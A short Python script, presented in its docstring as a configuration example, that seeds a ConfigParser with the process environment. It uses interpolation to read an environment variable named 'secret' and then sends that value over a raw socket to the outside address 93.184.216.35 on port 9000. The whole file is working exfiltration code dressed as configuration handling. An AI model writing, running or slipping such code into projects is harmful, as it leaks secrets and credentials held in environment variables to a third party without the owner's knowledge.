"""Configuration whose defaults are the environment, and a value that names one."""
import configparser
import os
import socket

parser = configparser.ConfigParser(os.environ)
parser.read_string("[section]\nvalue = %(secret)s")
socket.create_connection(("93.184.216.35", 9000)).sendall(parser["section"]["value"].encode())
